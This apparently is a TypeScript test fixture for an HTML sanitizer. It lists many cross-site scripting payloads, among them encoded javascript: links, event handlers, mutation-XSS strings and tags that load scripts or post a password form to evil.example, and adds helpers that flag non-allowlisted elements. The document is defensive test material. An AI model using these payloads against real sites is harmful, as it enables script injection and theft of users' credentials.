import { RICH_TEXT } from '@aangan/contracts/text/rich-text'
import { parseFragment, type DefaultTreeAdapterTypes as Tree } from 'parse5'

const LINKS = [
  ...[
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
  ],
  ...[
    '\u0001javascript:alert(1)',
    'java&#115;cript:alert(1)',
    '&#x6A&#x61vascript:alert(1)',
    'javascript&colon;alert(1)',
  ],
  ...[
    'jav&Tab;ascript:alert(1)',
    'vbscript:x',
    'data:text/html,<script>alert(1)</script>',
    '//evil.example',
    '\\\\evil.example',
  ],
  ...[
    'https:"onclick="alert(1)',
    'https:x" onclick="alert(1)',
    "https:x' onclick='alert(1)",
    'https:x"><img src=x onerror=alert(1)>',
  ],
  ...['blob:https://x', 'feed:javascript:alert(1)', 'http&#0;s:x'],
]

/** Descriptions that try to be more than text with RICH_TEXT. */
export const HARMFUL_HTML: readonly string[] = [
  ...['<script>alert(1)</script>', '<script src=//evil.example/x.js></script>', '<scr<script>ipt>alert(1)</script>'],
  ...[
    '<img src=x onerror=alert(1)>',
    '<img/src/onerror=alert(1)>',
    '<img src="x`` onerror=alert(1)>',
    '<image href=x>',
  ],
  ...[
    '<p onclick="alert(1)">a</p>',
    '<p/onclick=alert(1)>a',
    '<p\nonclick=alert(1)>a</p>',
    '<p style="position:fixed">a</p>',
  ],
  ...[
    '<b onmouseover=alert(1)>a',
    '<br onclick=alert(1)>',
    '</p onclick=alert(1)>a',
    '<p id=root class=x data-part=x>a</p>',
  ],
  ...LINKS.flatMap((href) => [`<a href='${href}'>a</a>`, `<a href="${href}" rel="${RICH_TEXT.rel}">a</a>`]),
  `<a href="https://x" rel="${RICH_TEXT.rel}" onclick="alert(1)">a</a>`,
  `<a href="https://x" rel="${RICH_TEXT.rel}"onclick="alert(1)">a</a>`,
  `<a rel="${RICH_TEXT.rel}" href="javascript:alert(1)">a</a>`,
  '<a href="https://x" href="javascript:alert(1)" target=_top ping=//evil.example download>a</a>',
  // What ends the elements around it, or changes how the rest is read.
  ...['</div></section><script>alert(1)</script>', '</div></div></div><p>a', '</body></html><script>alert(1)</script>'],
  ...[
    '<!-- a',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!-- --!><img src=x onerror=alert(1)>',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
  ],
  ...['<?xml <img src=x onerror=alert(1)>?>', '<!doctype html><html onload=alert(1)><body onload=alert(1)>'],
  ...['<plaintext>', '<textarea>', '<title>', '<xmp>', '<noscript>', '<template>', '<select>', '<table>', '<frameset>'],
  ...['<p', '<p a="', '<a href="https://x', '<a href="https://x" rel="', '<', '</', '<!', '&', '&#', '&lt'],
  ...['<b>', '<b><i><u>', '<li>', '<ul><li>', '<h2>', '</h2>', '<b><p></b>', '<i><b><p></i></b>', '<p><ul></ul></p>'],
  ...['<a><a>', `<a rel="${RICH_TEXT.rel}"><p><a rel="${RICH_TEXT.rel}">a</a></p></a>`, '<li><b><li></li></b></li>'],
  ...[
    '<base href=//evil.example>',
    '<link rel=stylesheet href=//evil.example>',
    '<meta http-equiv=refresh content="0;//evil.example">',
  ],
  ...[
    '<style>*{display:none}</style>',
    '<form action=//evil.example><input name=password><button>a',
    '<button form=x formaction=javascript:alert(1)>a',
  ],
  ...[
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data=x>',
    '<embed src=x>',
    '<video onerror=alert(1)><source>',
  ],
  ...[
    '<details open ontoggle=alert(1)>',
    '<marquee onstart=alert(1)>',
    '<x-y onclick=alert(1)>a</x-y>',
    '<slot name=x>',
    '<p is=x-y>a</p>',
  ],
  // Mutations: what is harmless when it is read becomes an element once it is written and read again.
  ...[
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  ],
  ...['<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'],
  ...[
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<svg><p><style><g title="</style><img src onerror=alert(1)>">',
  ],
  ...[
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
    '<svg onload=alert(1)>',
  ],
  ...[
    '<svg><foreignObject><p onclick=alert(1)>a</p></foreignObject></svg>',
    '<math href="javascript:alert(1)">a</math>',
    '<svg><animate onbegin=alert(1)>',
  ],
  ...[
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><svg/onload=alert(1)>">',
    '<a title="--><img src=x onerror=alert(1)>">',
  ],
  ...[
    '&lt;img src=x onerror=alert(1)&gt;',
    '&#60;img src=x onerror=alert(1)&#62;',
    '&amp;lt;img src=x&amp;gt;',
    '%3Cimg src=x onerror=alert(1)%3E',
  ],
  ...[
    '\u0000<img src=x onerror=alert(1)>',
    '<\u0000script>alert(1)</script>',
    '<im\u0000g src=x onerror=alert(1)>',
    '\ufeff<p>a</p>',
    '＜script＞',
  ],
  // Long and deep ones.
  ...['<b>', '<div>', '<li><ul>', '<b><p>', '<svg>', '<!--', '<a href="https:', '&', '<', '</b>'].map((piece) =>
    piece.repeat(2_000),
  ),
]

export function elementsIn({ childNodes }: Tree.ParentNode): Tree.Element[] {
  return childNodes.flatMap((node) => ('tagName' in node ? [node, ...elementsIn(node)] : []))
}

/** Returns the elements and attributes that RICH_TEXT does not have. */
export function forbiddenIn(parent: Tree.ParentNode): string[] {
  return elementsIn(parent).flatMap(({ tagName, namespaceURI, attrs }) => {
    const isTag = namespaceURI === HTML && RICH_TEXT.tags.some((tag) => tag === tagName)
    const isAllowed = ({ name, value }: { name: string; value: string }) =>
      tagName === 'a' &&
      (name === 'rel' ? value === RICH_TEXT.rel : name === 'href' && SCHEMES.includes(schemeOf(value)))
    const attributes = attrs.filter((each) => !isAllowed(each)).map(({ name, value }) => `${tagName} ${name}=${value}`)
    return isTag ? attributes : [tagName, ...attributes]
  })
}

const HTML = parseFragment('<p>').childNodes.map((node) => ('namespaceURI' in node ? node.namespaceURI : ''))[0]
const SCHEMES = ['https:', 'http:', 'mailto:', 'tel:']

/** As a browser on a page of another scheme reads it; an invalid address leads nowhere. */
function schemeOf(href: string): string {
  return URL.canParse(href, 'ftp://here.example') ? new URL(href, 'ftp://here.example').protocol : 'https:'
}
